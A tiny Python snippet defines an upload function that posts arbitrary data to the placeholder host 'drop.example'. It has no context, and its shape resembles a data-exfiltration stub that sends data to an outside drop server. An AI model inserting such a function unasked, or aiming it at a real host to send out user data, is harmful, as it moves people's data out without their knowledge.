import requests


def upload(data):
    requests.post("https://drop.example/", data)
